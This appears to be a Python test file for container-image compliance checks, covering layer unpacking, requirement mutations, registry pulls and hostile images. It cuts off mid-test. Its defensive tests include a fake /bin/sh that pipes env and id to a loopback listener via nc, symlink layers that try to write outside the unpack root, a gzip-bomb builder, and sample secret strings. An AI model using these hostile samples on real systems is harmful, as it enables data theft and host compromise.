"""The image checks: layers unpacked as a runtime applies them, each IMG requirement failed alone by an image
built with one violation (OCI layouts assembled from busybox-static and small files, no Docker engine),
the --image forms end to end, bad input as one line, ECR's scan judged, and hostile images (a shell that
phones home or hangs, bombs, escapes, tampered blobs) handled without harm."""
from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import warnings
from dataclasses import replace
from pathlib import Path
from typing import Any, Callable

import boto3
import pytest
import requests

from support.suites import ROOT, run_suite

from support.waiting import wait_for
from harness.image import judges, sandbox
from harness.image.ecr import EcrImage, scan_findings
from harness.image.fetch import ImageError, load, parse_reference
from harness.image.inspect import ImageFacts
from harness.image.oci import LayerSpec, read_layout, write_docker_archive, write_layout
from harness.image.session import ImageSession, unpack_limits
from harness.image.unpack import Limits, UnpackError, unpack
from harness.local import registry as local_registry
from harness.local.image import ALPINE_RELEASE, app_config, app_layer, base_layer
from harness.plan import load_plan
from harness.target import Target

pytestmark = pytest.mark.sandbox

PLAN = load_plan(ROOT / "plan" / "dougust.toml")
EXPECT = {rid: PLAN.requirements[rid].expected("prod") for rid in
          ("IMG-01", "IMG-02", "IMG-03", "IMG-04", "IMG-05", "IMG-06", "IMG-07")}
JUDGES: dict[str, Callable[[ImageFacts, dict[str, Any]], judges.Verdict]] = {
    "IMG-01": judges.non_root_user, "IMG-02": judges.port_and_environment, "IMG-03": judges.minimal_base,
    "IMG-04": judges.no_baked_secrets, "IMG-05": judges.health_check, "IMG-06": judges.production_dependencies,
}
LIMITS = unpack_limits(EXPECT["IMG-03"]["max_size_mb"])
PRIVATE_KEY = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
               "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
               "-----END OPENSSH PRIVATE KEY-----\n")


@pytest.fixture
def tmp_path() -> Any:
    """A temporary directory the sandbox's user may pass through (0711), as ImageSession's is: pytest's own are
    0700 root, and as root the image's commands run as uid 65534 (sandbox.py)."""
    path = Path(tempfile.mkdtemp(prefix="harness-image-test-"))
    path.chmod(0o711)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def compliant() -> tuple[list[LayerSpec], dict[str, Any]]:
    """An image that meets every IMG requirement: Alpine's os-release, the node user, an app whose
    production dependency is installed and whose devDependencies are not."""
    app = app_layer({"/app/dist/main.js": "console.log('dougust')\n",
                     "/app/node_modules/express/package.json": '{"name": "express"}'}, "1.0.0")
    return [base_layer(ALPINE_RELEASE), app], app_config()


def _with_layer(spec: LayerSpec) -> Callable[[list[LayerSpec], dict[str, Any]], None]:
    return lambda layers, config: layers.append(spec)


def _config(**changes: Any) -> Callable[[list[LayerSpec], dict[str, Any]], None]:
    return lambda layers, config: config.update(changes)


def _env(*pairs: str) -> Callable[[list[LayerSpec], dict[str, Any]], None]:
    return lambda layers, config: config.update(Env=[*config["Env"], *pairs])


def _passwd(text: str) -> Callable[[list[LayerSpec], dict[str, Any]], None]:
    return _with_layer(LayerSpec(files={"/etc/passwd": text}, created_by="RUN usermod"))


# name -> (the requirement it must fail alone, how the compliant image is changed)
MUTATIONS: dict[str, tuple[str, Callable[[list[LayerSpec], dict[str, Any]], None]]] = {
    "user root": ("IMG-01", _config(User="root")),
    "user 0:0": ("IMG-01", _config(User="0:0")),
    "no user": ("IMG-01", _config(User="")),
    "user unknown to the image": ("IMG-01", _config(User="app")),
    "uid unknown to the image": ("IMG-01", _config(User="4242")),
    "user with uid 0": ("IMG-01", _passwd("root:x:0:0::/root:/bin/sh\nnode:x:0:0::/home/node:/bin/sh\n")),
    "port not exposed": ("IMG-02", _config(ExposedPorts={"8080/tcp": {}})),
    "NODE_ENV development": ("IMG-02", _config(Env=["PATH=/bin", "NODE_ENV=development", "PORT=3000"])),
    "debian base": ("IMG-03", _with_layer(LayerSpec(files={"/etc/os-release": 'ID=debian\nNAME="Debian"\n'}))),
    "token variable": ("IMG-04", _env("NPM_TOKEN=npm_0123456789")),
    ".env file": ("IMG-04", _with_layer(LayerSpec(files={"/app/.env": "JWT_SECRET=x\n"}))),
    "private key by content": ("IMG-04", _with_layer(LayerSpec(files={"/app/config/server.conf": PRIVATE_KEY}))),
    "aws credentials": ("IMG-04", _with_layer(LayerSpec(files={"/root/.aws/credentials": "[default]\n"}))),
    "no healthcheck": ("IMG-05", _config(Healthcheck=None)),
    "healthcheck on another path": ("IMG-05", _config(Healthcheck={"Test": ["CMD", "wget", "-q", "http://127.0.0.1:3000/"]})),
    "healthcheck on /api/healthz": ("IMG-05", _config(Healthcheck={"Test": ["CMD", "wget", "http://127.0.0.1:3000/api/healthz"]})),
    "devDependency installed": ("IMG-06", _with_layer(LayerSpec(files={"/app/node_modules/jest/package.json": "{}"}))),
    "scoped devDependency, no directory entries": ("IMG-06", _with_layer(LayerSpec(
        files={"/app/node_modules/@nestjs/cli/package.json": "{}"}, parents=False))),
    "dev package in npm's install record": ("IMG-06", _with_layer(LayerSpec(files={
        "/app/node_modules/eslint/package.json": "{}",
        "/app/node_modules/.package-lock.json": json.dumps({"packages": {"node_modules/express": {},
                                                                          "node_modules/eslint": {"dev": True}}})}))),
    "hardlinked .env": ("IMG-04", _with_layer(LayerSpec(hardlinks={"/app/.env": "/app/dist/main.js"}))),
    ".git in the app": ("IMG-06", _with_layer(LayerSpec(files={"/app/.git/HEAD": "ref: refs/heads/main\n"}))),
    "test folder in the app": ("IMG-06", _with_layer(LayerSpec(files={"/app/test/app.e2e-spec.ts": "it()\n"}))),
}

# What the image mutations prove; IMG-07 is proven through the suite on --target aws (test_image_scan_on_aws.py).
PROVEN = {rid for rid, _ in MUTATIONS.values()} | {"IMG-07"}


def build(tmp_path: Path, mutate: Callable[[list[LayerSpec], dict[str, Any]], None] | None = None,
          name: str = "image") -> Path:
    layers, config = compliant()
    if mutate:
        mutate(layers, config)
    write_layout(tmp_path / name, layers, {k: v for k, v in config.items() if v is not None})
    return tmp_path / name


def facts_of(layout: Path, tmp_path: Path) -> ImageFacts:
    workdir = tmp_path / f"work-{layout.name}"
    workdir.mkdir()
    return load(parse_reference(f"oci:{layout}"), workdir, LIMITS)


def verdicts(facts: ImageFacts) -> dict[str, judges.Verdict]:
    return {rid: judge(facts, EXPECT[rid]) for rid, judge in JUDGES.items()}


# -- unpacking ----------------------------------------------------------------------------------------------

def test_layers_apply_in_order_with_whiteouts_and_opaque_directories(tmp_path):
    layers = [LayerSpec(files={"/a/keep": "1", "/a/gone": "2", "/b/old": "3", "/c": "4"}),
              LayerSpec(files={"/b/new": "5", "/c": "changed"}, deleted=("/a/gone",), opaque=("/b",))]
    image = write_layout(tmp_path / "layout", layers, {})
    unpacked = unpack(image, tmp_path / "root")
    root = unpacked.root
    assert (root / "a" / "keep").read_text() == "1" and not (root / "a" / "gone").exists()
    assert sorted(p.name for p in (root / "b").iterdir()) == ["new"]
    assert (root / "c").read_text() == "changed"
    assert unpacked.layers[0].files["/a/gone"] == ("file", 1)
    assert unpacked.layers[1].deleted == ["/b/", "/a/gone"]
    assert set(unpacked.final_files()) == {"/a", "/b", "/a/keep", "/b/new", "/c"}
    assert unpacked.size_bytes == 4 + 1 + 7


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A directory of the host that a crafted layer aims at: nothing may be written to or deleted from it."""
    directory = tmp_path / "victim"
    (directory / "sub").mkdir(parents=True)
    (directory / "sub" / "f").write_text("host file")
    return directory


def _unpack_crafted(tmp_path: Path, *layers: LayerSpec) -> Path:
    """Layers as an attacker writes them: no directory entry of their own replaces a symlink first."""
    image = write_layout(tmp_path / "layout", [replace(spec, parents=False) for spec in layers], {})
    return unpack(image, tmp_path / "root").root


def _crafted(case: str, victim: Path) -> list[LayerSpec]:
    links = LayerSpec(symlinks={"/b": str(victim), "/x": "b/sub"})  # b -> the host directory, x -> b/sub
    return {
        # /etc pointing above the root, absolute and relative: `..` stops at the root, as in the container.
        "absolute-above-root": [LayerSpec(symlinks={"/etc": "/../../.."}), LayerSpec(files={"/etc/pwned": "x"})],
        "relative-above-root": [LayerSpec(symlinks={"/etc": "../../.."}), LayerSpec(files={"/etc/pwned": "x"})],
        "chain-write": [links, LayerSpec(files={"/x/pwned": "x"})],
        "chain-whiteout": [links, LayerSpec(deleted=("/x/f",))],
        "opaque-through-symlink": [LayerSpec(symlinks={"/d": str(victim / "sub")}),
                                   LayerSpec(opaque=("/d",), files={"/d/new": "x"})],
    }[case]


@pytest.mark.parametrize("case", ["absolute-above-root", "relative-above-root", "chain-write", "chain-whiteout",
                                  "opaque-through-symlink"])
def test_a_crafted_layer_cannot_write_or_delete_outside_the_root(tmp_path, victim, case):
    root = _unpack_crafted(tmp_path, *_crafted(case, victim))
    assert sorted(p.name for p in victim.rglob("*")) == ["f", "sub"] and (victim / "sub" / "f").read_text() == "host file"
    assert not (tmp_path / "pwned").exists()
    written = [p for p in root.rglob("*") if p.name in ("pwned", "new")]
    assert written and all(root in p.parents for p in written) or case == "chain-whiteout"


def test_an_absolute_symlink_is_followed_inside_the_root(tmp_path):
    root = _unpack_crafted(tmp_path, LayerSpec(symlinks={"/srv": "/data"}, dirs=("/data",)),
                           LayerSpec(files={"/srv/file": "x"}))
    assert (root / "data" / "file").read_text() == "x"


def test_a_whiteout_hides_only_the_layers_below(tmp_path):
    """Within one layer the whiteouts apply first, whatever their order in the tar: the layer's own files stay."""
    image = write_layout(tmp_path / "layout", [LayerSpec(files={"/d/old": "1", "/x": "1"}),
                                               LayerSpec(files={"/d/new": "2"}, opaque=("/d",))], {})
    unpacked = unpack(image, tmp_path / "root")
    assert sorted(p.name for p in (unpacked.root / "d").iterdir()) == ["new"]
    assert "/d/new" in unpacked.final_files() and "/d/old" not in unpacked.final_files()


def test_final_files_have_the_parents_a_layer_does_not_list(tmp_path):
    image = write_layout(tmp_path / "layout", [LayerSpec(files={"/app/node_modules/@nestjs/cli/package.json": "{}"},
                                                         parents=False)], {})
    files = unpack(image, tmp_path / "root").final_files()
    assert files["/app/node_modules/@nestjs/cli"] == ("dir", 0) and files["/app"] == ("dir", 0)


# -- each requirement failed alone by its mutation image -----------------------------------------------------

def test_the_compliant_image_passes_every_check(tmp_path):
    facts = facts_of(build(tmp_path), tmp_path)
    assert facts.not_run is None, facts.not_run
    assert {rid: v.status for rid, v in verdicts(facts).items()} == {rid: "pass" for rid in JUDGES}
    assert facts.user == {"name": "node", "exists": True, "uid": 1000}  # from testinfra, inside the image


@pytest.mark.parametrize("name", list(MUTATIONS))
def test_each_mutation_fails_its_requirement_alone(tmp_path, name):
    rid, mutate = MUTATIONS[name]
    found = verdicts(facts_of(build(tmp_path, mutate), tmp_path))
    assert found[rid].status == "fail", found[rid]
    others = {other: v.status for other, v in found.items() if other != rid}
    assert others == {other: "pass" for other in others}, others


def test_npm_install_record_decides_over_the_devdependency_names(tmp_path):
    """typescript is a devDependency, but a production dependency needs it too: npm does not mark it dev."""
    lock = {"packages": {"node_modules/express": {}, "node_modules/typescript": {"peer": True}}}
    layer = LayerSpec(files={"/app/node_modules/typescript/package.json": "{}",
                             "/app/node_modules/.package-lock.json": json.dumps(lock)})
    facts = facts_of(build(tmp_path, _with_layer(layer)), tmp_path)
    verdict = judges.production_dependencies(facts, EXPECT["IMG-06"])
    assert verdict.status == "pass" and verdict.evidence["judged by"] == "/app/node_modules/.package-lock.json"
    unrecorded = facts_of(build(tmp_path, _with_layer(replace(layer, files={
        "/app/node_modules/typescript/package.json": "{}"})), name="unrecorded"), tmp_path)
    assert judges.production_dependencies(unrecorded, EXPECT["IMG-06"]).status == "fail"


def test_a_numeric_user_known_to_the_image_passes(tmp_path):
    facts = facts_of(build(tmp_path, _config(User="1000:1000")), tmp_path)
    assert facts.user == {"name": "node", "exists": True, "uid": 1000}
    assert judges.non_root_user(facts, EXPECT["IMG-01"]).status == "pass"


def test_a_secret_deleted_in_a_later_layer_still_fails_and_names_its_layer(tmp_path):
    added = LayerSpec(files={"/app/deploy_key": PRIVATE_KEY, "/app/.env.production": "DB=x\n"},
                      created_by="COPY secrets/ /app/")
    removed = LayerSpec(deleted=("/app/deploy_key", "/app/.env.production"), created_by="RUN rm /app/deploy_key")
    facts = facts_of(build(tmp_path, lambda layers, config: layers.extend([added, removed])), tmp_path)
    assert "/app/deploy_key" not in facts.final_files  # gone from the running container's filesystem ...
    verdict = judges.no_baked_secrets(facts, EXPECT["IMG-04"])
    assert verdict.status == "fail"  # ... but shipped in layer 3 all the same
    assert "private key /app/deploy_key in layer 3" in verdict.message and "COPY secrets/" in verdict.message
    assert "deleted in layer 4" in verdict.message
    assert {f["path"] for f in verdict.evidence["files"]} == {"/app/deploy_key", "/app/.env.production"}


def test_an_example_env_file_public_certificates_and_key_documentation_are_not_secrets(tmp_path):
    npm_docs = 'key="-----BEGIN PRIVATE KEY-----\\nXXXX\\nXXXX\\n-----END PRIVATE KEY-----"'  # as npm's config docs
    layer = LayerSpec(files={"/app/.env.example": "JWT_SECRET=\n", "/etc/ssl/certs/ca.pem": "-----BEGIN CERTIFICATE-----\n",
                             "/usr/lib/node_modules/npm/docs/config.md": npm_docs,
                             "/app/node_modules/ws/test/fixtures/key.pem": "not a key",
                             "/app/node_modules/ws/test/fixtures/server.key": "not a key"})
    facts = facts_of(build(tmp_path, _with_layer(layer)), tmp_path)
    assert judges.no_baked_secrets(facts, EXPECT["IMG-04"]).status == "pass"


def test_an_empty_secret_variable_is_not_a_baked_in_secret(tmp_path):
    facts = facts_of(build(tmp_path, _env("JWT_SECRET=")), tmp_path)
    assert judges.no_baked_secrets(facts, EXPECT["IMG-04"]).status == "pass"


@pytest.mark.parametrize("variable, value", [
    ("NPM_TOKEN", "npm_0123456789"),
    ("STRIPE_KEY", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),  # by name (*_KEY) and by value
    ("CACHE", "redis://:hunter2hunter2@cache.internal:6379"),  # by value alone: a URL with a password
    ("DEPLOY_HOOK", "https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX"),
])
def test_a_secret_value_of_the_config_never_reaches_the_facts(tmp_path, variable, value):
    facts = facts_of(build(tmp_path, _env(f"{variable}={value}", "LOG_LEVEL=info")), tmp_path)
    assert value not in json.dumps(facts.config) and "hunter2" not in json.dumps(facts.config)
    verdict = judges.no_baked_secrets(facts, EXPECT["IMG-04"])
    assert verdict.status == "fail" and f"config.Env sets {variable}" in verdict.message
    assert "LOG_LEVEL" not in verdict.message and "LOG_LEVEL=info" in facts.config["Env"]


def test_an_image_without_a_shell_is_judged_on_what_can_be_read(tmp_path):
    no_shell = LayerSpec(deleted=("/bin/sh",), created_by="RUN rm /bin/sh")
    facts = facts_of(build(tmp_path, _with_layer(no_shell)), tmp_path)
    assert facts.not_run == "the image has no /bin/sh"
    found = {rid: v.status for rid, v in verdicts(facts).items()}
    # The base and package.json are files, read on the host; only the user's uid needs the image's `id`.
    assert found == {"IMG-01": "skip", "IMG-02": "pass", "IMG-03": "pass", "IMG-04": "pass", "IMG-05": "pass",
                     "IMG-06": "pass"}
    assert "the image has no /bin/sh" in verdicts(facts)["IMG-01"].message
    # What is wrong in the config is still found without running anything.
    rooted = facts_of(build(tmp_path, lambda layers, config: (layers.append(no_shell), config.update(User="root")),
                            name="rooted"), tmp_path)
    assert judges.non_root_user(rooted, EXPECT["IMG-01"]).status == "fail"


def test_without_a_sandbox_or_for_another_architecture_testinfra_is_not_run(tmp_path, monkeypatch):
    layers, config = compliant()
    write_layout(tmp_path / "arm", layers, config, architecture="arm64")
    arm = load(parse_reference(f"oci:{tmp_path / 'arm'}"), tmp_path / "w-arm", LIMITS)
    assert arm.not_run == "the image is built for arm64, this machine runs amd64" and arm.user is None
    monkeypatch.setattr(sandbox, "unavailable", lambda: "no sandbox can be made here (test)")
    facts = facts_of(build(tmp_path), tmp_path)
    assert facts.not_run == "no sandbox can be made here (test)"  # never a fallback to running it unsandboxed
    assert judges.non_root_user(facts, EXPECT["IMG-01"]).status == "skip"


def test_size_over_the_budget_fails(tmp_path):
    facts = facts_of(build(tmp_path), tmp_path)
    assert judges.minimal_base(facts, {**EXPECT["IMG-03"], "max_size_mb": 1}).status == "fail"
    assert judges.minimal_base(replace(facts, size_bytes=int(399e6)), EXPECT["IMG-03"]).status == "pass"


@pytest.mark.parametrize("counts, budget, status", [
    ({}, {"max_critical": 0, "max_high": 0}, "pass"),
    ({"HIGH": 2, "MEDIUM": 9}, {"max_critical": 0, "max_high": 5}, "pass"),
    ({"HIGH": 1}, {"max_critical": 0, "max_high": 0}, "fail"),
    ({"CRITICAL": 1}, {"max_critical": 0, "max_high": 5}, "fail"),
])
def test_scan_findings_against_the_budget(counts, budget, status):
    scan = {"imageScanStatus": {"status": "COMPLETE"}, "imageScanFindings": {"findingSeverityCounts": counts}}
    assert judges.scan_findings(scan, budget).status == status


def test_ecr_scan_findings_are_read_for_the_deployed_image(moto_endpoint, monkeypatch):
    """IMG-07's fetch against the emulator, its findings set through moto's API: a CRITICAL one fails."""
    for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(key, "testing")
    ecr = boto3.client("ecr", region_name="us-east-1", endpoint_url=moto_endpoint)
    repo = ecr.create_repository(repositoryName="scan-test")["repository"]
    manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                           "config": {}, "layers": []})
    ecr.put_image(repositoryName="scan-test", imageManifest=manifest, imageTag="v1")
    ecr.start_image_scan(repositoryName="scan-test", imageId={"imageTag": "v1"})
    result = {"repositoryName": "scan-test", "imageId": {"imageTag": "v1"},
              "imageScanStatus": {"status": "COMPLETE", "description": "done"},
              "imageScanFindings": {"findingSeverityCounts": {"CRITICAL": 1, "HIGH": 1},
                                    "findings": [{"name": "CVE-2026-0001", "severity": "CRITICAL"}]}}
    requests.post(f"{moto_endpoint}/moto-api/static/ecr/scan-finding-results",
                  json={"results": [result], "region": "us-east-1"}, timeout=5).raise_for_status()
    image = EcrImage.parse(f"{repo['repositoryUri']}:v1")
    target = Target("aws", "us-east-1", endpoint_url=moto_endpoint)  # read-only: a write would be refused
    verdict = judges.scan_findings(scan_findings(target, image), EXPECT["IMG-07"])
    assert verdict.status == "fail" and "1 CRITICAL" in verdict.message
    assert verdict.evidence["findings"] == [{"name": "CVE-2026-0001", "severity": "CRITICAL", "uri": None}]
    assert set(target.recorder.summary()) == {"ecr.DescribeImageScanFindings"}


def test_the_deployed_image_is_pulled_with_reads_only(moto_endpoint, monkeypatch, tmp_path):
    """The nightly path on a read-only target: ECR's token, then the registry API; nothing else."""
    for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(key, "testing")
    writer = Target("localstack", "us-east-1", endpoint_url=moto_endpoint)
    repo = writer.client("ecr").create_repository(repositoryName="pull-test")["repository"]
    image = EcrImage.parse(f"{repo['repositoryUri']}:2026.11.2")
    lines: list[str] = []
    session = ImageSession(lines.append, EXPECT["IMG-03"]["max_size_mb"])
    try:
        with local_registry.serving(tmp_path / "registry") as address:
            digest = local_registry.publish(address, image, writer, tmp_path, 3000)
            reader = Target("aws", "us-east-1", endpoint_url=moto_endpoint)
            facts = session.deployed(image.reference(), reader, registry=address)
    finally:
        session.close()
    assert facts.digest == digest and facts.source == image.reference()
    assert set(reader.recorder.summary()) == {"ecr.GetAuthorizationToken"}
    assert any(line.startswith("Copying blob") for line in lines), lines  # the pull's progress
    assert not session.workdir.exists()


# -- end to end: --image, bad input, nothing left behind ------------------------------------------------------

def test_image_option_on_an_oci_layout_and_a_docker_archive(tmp_path, reports):
    layers, config = compliant()
    archive = write_docker_archive(tmp_path / "app.tar", layers, config)
    temp = tmp_path / "tmp"
    temp.mkdir()
    run = run_suite("--image", f"docker-archive:{archive}", reports=reports, suite="compliance/test_image.py",
                    env={"TMPDIR": str(temp)})
    assert run.returncode == 0, run.stdout[-3000:]
    assert run.ids_with("pass") == set(JUDGES)
    assert list(temp.iterdir()) == []  # the copy and the unpacked root are gone
    assert "api_calls 0" in run.stdout  # the build pipeline's use needs no AWS account
    bad = build(tmp_path, MUTATIONS[".env file"][1], name="bad")
    run = run_suite("--image", f"oci:{bad}", reports=tmp_path / "r2", suite="compliance/test_image.py")
    assert run.returncode == 1
    assert run.ids_with("fail") == {"IMG-04"}
    assert "credential file /app/.env in layer 3" in run.message("IMG-04")


def test_the_local_target_pulls_the_service_image_from_its_registry_and_leaves_nothing(tmp_path, reports):
    """The nightly path on the local target: the task definition's ECR image, served by a registry on
    loopback for the session; afterwards no file and no process of it is left."""
    import psutil

    from harness.util.net import free_port

    temp = tmp_path / "tmp"
    temp.mkdir()
    run = run_suite("--endpoint-url", f"http://127.0.0.1:{free_port()}", reports=reports,
                    suite="compliance/test_image.py", env={"TMPDIR": str(temp)})
    assert run.returncode == 0, run.stdout[-3000:]
    assert run.ids_with("pass") == set(JUDGES) - {"IMG-03"} and run.status("IMG-03") == "skip"
    assert "dougust-prod-backend:latest: 2 layers" in run.stdout  # the progress line of the pull
    assert list(temp.iterdir()) == []
    assert not [p.pid for p in psutil.process_iter(["cmdline"]) if str(temp) in " ".join(p.info["cmdline"] or [])]


def _htpasswd_registry(root: Path, port: int) -> subprocess.Popen:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # the registry wants bcrypt; crypt has it until 3.13
        import crypt
    root.mkdir(parents=True)
    (root / "htpasswd").write_text(f"ci:{crypt.crypt('right', crypt.mksalt(crypt.METHOD_BLOWFISH))}\n")
    (root / "config.yml").write_text(json.dumps({
        "version": 0.1, "storage": {"filesystem": {"rootdirectory": str(root / "data")}},
        "http": {"addr": f"127.0.0.1:{port}"},
        "auth": {"htpasswd": {"realm": "test", "path": str(root / "htpasswd")}}}))
    return subprocess.Popen(["docker-registry", "serve", str(root / "config.yml")], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, start_new_session=True)


def test_bad_image_references_are_one_line_and_exit_4(tmp_path, reports):
    from harness.util.net import free_port

    corrupt = tmp_path / "corrupt.tar"
    corrupt.write_bytes(os.urandom(4096))
    port = free_port()
    server = _htpasswd_registry(tmp_path / "registry", port)
    auth = tmp_path / "auth.json"
    auth.write_text(json.dumps({"auths": {f"127.0.0.1:{port}": {"auth": base64.b64encode(b"ci:wrong").decode()}}}))
    try:
        def asks_for_credentials() -> bool:
            try:
                return requests.get(f"http://127.0.0.1:{port}/v2/", timeout=1).status_code == 401
            except requests.ConnectionError:
                return False

        wait_for(asks_for_credentials, 15, lambda: "the registry did not start")
        cases = {
            f"docker-archive:{tmp_path / 'missing.tar'}": "does not exist",
            f"docker-archive:{corrupt}": "is not a readable `docker save` archive",
            f"127.0.0.1:{port}/dougust-be:1.0": "refused the credentials",
            "dougust be": "is not an image reference",
        }
        for reference, says in cases.items():
            run = run_suite("--image", reference, reports=reports, suite="compliance/test_image.py",
                            env={"REGISTRY_AUTH_FILE": str(auth)}, timeout=120)
            assert run.returncode == 4, (reference, run.stdout[-2000:], run.stderr[-2000:])
            assert len(run.error_lines) == 1 and says in run.error_lines[0], (reference, run.stderr)
            assert "Traceback" not in run.stderr + run.stdout
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_a_reference_that_does_not_resolve_is_named(tmp_path):
    with local_registry.serving(tmp_path / "registry") as address:
        with pytest.raises(ImageError, match="does not resolve"):
            load(parse_reference(f"{address}/nothing-here:1.0"), tmp_path, LIMITS)
    layout = build(tmp_path)
    (layout / "index.json").write_text("{}")
    with pytest.raises(ImageError, match="names no image"):
        load(parse_reference(f"oci:{layout}"), tmp_path / "w", LIMITS)


def test_a_written_layout_reads_back_as_written(tmp_path):
    layers, config = compliant()
    image = write_layout(tmp_path / "layout", layers, config, tag="1.2.3")
    again = read_layout(tmp_path / "layout")
    assert again.digest == image.digest and again.config["config"]["User"] == "node"
    assert [layer.created_by for layer in again.layers] == [spec.created_by for spec in layers]


@pytest.mark.parametrize("kind, outcome", [("error", pytest.fail.Exception), ("unavailable", pytest.skip.Exception)])
def test_without_the_task_definition_the_image_checks_error_or_skip_alone(kind, outcome):
    """The service's image comes from the snapshot's task definition: a failed describe errors the image
    checks, an endpoint without ECS skips them (never an internal error of the whole run)."""
    from harness.compliance.inventory import Failure, Inventory
    from harness.image.plugin import service_image

    failure = Failure(kind, "ecs:DescribeTaskDefinition failed: AccessDeniedException: not authorized")
    inventory = Inventory(meta={}, failures={"task_definitions": failure})
    with pytest.raises(outcome, match="AccessDeniedException"):
        service_image(inventory, PLAN.requirements["ECS-03"].expected("prod"))


def test_an_oci_layout_with_several_images_needs_a_tag(tmp_path):
    layers, config = compliant()
    first = write_layout(tmp_path / "layout", layers, config, tag="1.0")
    kept = json.loads((tmp_path / "layout" / "index.json").read_text())["manifests"]
    write_layout(tmp_path / "layout", layers, {**config, "User": "root"}, tag="2.0")
    index = json.loads((tmp_path / "layout" / "index.json").read_text())
    index["manifests"] = kept + index["manifests"]
    (tmp_path / "layout" / "index.json").write_text(json.dumps(index))
    with pytest.raises(ImageError, match=r"holds 2 images \(1.0, 2.0\); name one as oci:.*:TAG"):
        load(parse_reference(f"oci:{tmp_path / 'layout'}"), tmp_path / "w1", LIMITS)
    facts = load(parse_reference(f"oci:{tmp_path / 'layout'}:1.0"), tmp_path / "w2", LIMITS)
    assert facts.digest == first.digest and facts.config["User"] == "node"
    with pytest.raises(ImageError, match="holds no image tagged '3.0'"):
        load(parse_reference(f"oci:{tmp_path / 'layout'}:3.0"), tmp_path / "w3", LIMITS)


# -- hostile images: nothing of them runs with the runner's privileges, and unpacking cannot be abused ---------

def _shell(script: str) -> Callable[[list[LayerSpec], dict[str, Any]], None]:
    """The image's /bin/sh replaced by `script`, run by the image's own busybox."""
    return _with_layer(LayerSpec(files={"/bin/sh": "#!/bin/busybox sh\n" + script}, modes={"/bin/sh": 0o755},
                                 created_by="COPY sh /bin/sh"))


def test_a_hostile_shell_gets_no_network_no_credentials_and_no_root(tmp_path, monkeypatch):
    """A /bin/sh that sends its environment and `id` to a listener on the runner's loopback, then behaves:
    nothing arrives, it sees no AWS key and runs as uid 65534, and the image is still judged clean (IMG-01's
    uid looked up through the sandbox)."""
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    received: list[bytes] = []

    def accept() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                received.append(connection.recv(65536))

    threading.Thread(target=accept, daemon=True).start()
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hostile-test-secret")
    script = (f"{{ /bin/busybox env; /bin/busybox id; }} | /bin/busybox nc -w 1 127.0.0.1 {port}\n"
              "{ /bin/busybox env; /bin/busybox id; } >&2\n"
              "echo owned > /owned\n"
              'exec /bin/busybox sh "$@"\n')
    try:
        facts = facts_of(build(tmp_path, _shell(script)), tmp_path)
        root = tmp_path / "work-image" / "rootfs"
        _, _, stderr = sandbox.run(root, ["/bin/sh", "-c", "true"])
        with socket.create_connection(("127.0.0.1", port)) as own:  # the listener does take connections
            own.sendall(b"control")
        wait_for(lambda: received, 5, lambda: "the listener got nothing, not even the test's own connection")
    finally:
        listener.close()
    assert received == [b"control"]  # the image's shell never reached the runner's loopback
    seen = stderr.decode()
    assert "uid=65534" in seen and "hostile-test-secret" not in seen and "AWS_" not in seen
    assert sorted(line.split("=")[0] for line in seen.splitlines() if "=" in line and not line.startswith("uid")) \
        == ["HOME", "LANG", "PATH", "PWD", "SHLVL"]
    assert not (root / "owned").exists()  # the root is read-only
    assert facts.command_error is None and facts.user == {"name": "node", "exists": True, "uid": 1000}
    assert {rid: v.status for rid, v in verdicts(facts).items()} == {rid: "pass" for rid in JUDGES}


def _processes_with(marker: str) -> list[int]:
    import psutil

    return [p.pid for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]


def test_a_shell_that_never_returns_is_an_error_within_its_time_limit_leaving_no_process(tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "COMMAND_TIMEOUT_S", 2.0)
    hang = _shell("/bin/busybox sleep 8641 &\nexec /bin/busybox sleep 8641\n")
    started = time.monotonic()
    facts = facts_of(build(tmp_path, hang), tmp_path)
    assert time.monotonic() - started < 15
    assert "did not finish within 2 s in the image's sandbox; it was killed" in facts.command_error
    assert _processes_with("sleep 8641") == []


def test_a_hanging_shell_errors_the_checks_that_run_commands_alone(tmp_path, reports):
    """End to end, at the default time limit: IMG-01 needs a command in the image (its `id`) and ERRORs naming
    the timeout; the config, the layer lists and the files read on the host are judged as usual."""
    layout = build(tmp_path, _shell("exec /bin/busybox sleep 8642\n"))
    run = run_suite("--image", f"oci:{layout}", reports=reports, suite="compliance/test_image.py", timeout=180)
    assert run.ids_with("error") == {"IMG-01"}, run.stdout[-3000:]
    assert run.ids_with("pass") == {"IMG-02", "IMG-03", "IMG-04", "IMG-05", "IMG-06"}
    assert "did not finish within 20 s" in run.message("IMG-01")
    assert _processes_with("sleep 8642") == []


def _bomb(size: int) -> bytes:
    """An uncompressed layer tar holding one file of `size` zero bytes (a few hundred KiB once gzipped)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        info = tarfile.TarInfo("zeros")
        info.size = size
        tar.addfile(info, io.BytesIO(bytes(size)))
    return out.getvalue()


def test_a_gzip_bomb_stops_unpacking_before_the_disk_fills_and_fails_img03(tmp_path):
    """200 MB of zeros, 0.2 MB as gzip, against a 50 MB limit: nothing of it is written, IMG-03 fails
    "over 50 MB ..., stopped", what needs the whole image is not passed."""
    layers, config = compliant()
